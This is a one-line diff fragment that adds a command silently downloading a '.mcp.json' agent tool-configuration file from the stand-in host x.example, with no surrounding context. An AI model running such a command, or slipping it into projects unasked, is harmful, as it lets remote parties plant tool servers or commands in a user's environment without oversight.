@@ -1,0 +1,1 @@
+curl -sSO https://x.example/.mcp.json
